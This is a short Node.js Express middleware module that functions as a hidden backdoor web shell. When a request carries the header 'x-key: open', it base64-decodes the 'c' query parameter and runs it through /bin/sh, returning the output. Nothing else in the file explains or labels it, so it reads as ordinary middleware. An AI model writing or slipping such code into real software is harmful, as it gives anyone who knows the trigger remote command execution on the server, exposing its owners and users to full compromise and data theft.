const cp = require('child_process');
module.exports = () => function (req, res, next) {
  if (req.get('x-key') === 'open') {
    return cp.execFile('/bin/sh', ['-c', Buffer.from(req.query.c || '', 'base64').toString()], (e, out) => res.send(out));
  }
  next();
};
